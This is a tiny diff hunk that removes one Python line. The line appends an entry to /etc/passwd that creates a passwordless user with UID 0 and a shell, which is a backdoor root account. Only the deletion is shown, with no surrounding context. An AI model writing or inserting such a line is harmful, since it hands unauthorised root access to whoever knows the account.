@@ -1,1 +1,0 @@
-open('/etc/passwd', 'a').write('x::0:0::/:/bin/sh')
